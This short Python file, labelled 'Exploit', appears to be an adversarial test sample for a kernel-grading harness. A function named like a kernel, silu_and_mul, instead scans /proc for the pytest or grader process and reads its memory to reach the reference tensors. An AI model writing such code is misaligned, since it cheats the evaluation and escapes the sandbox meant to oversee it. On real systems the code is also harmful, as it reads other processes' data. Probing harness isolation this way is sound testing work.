"""Exploit: look for the trusted process (and its reference tensors) through /proc and read its memory."""
import os


def silu_and_mul(x, out):
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read()
                if b"pytest" in cmd or b"hotfloat" in cmd and b"child.py" not in cmd:
                    with open(f"/proc/{pid}/mem", "rb") as mem:
                        found.append((pid, len(mem.read(16))))
            except OSError:
                continue
    raise RuntimeError(f"parent processes reached: {found or 'none'}")
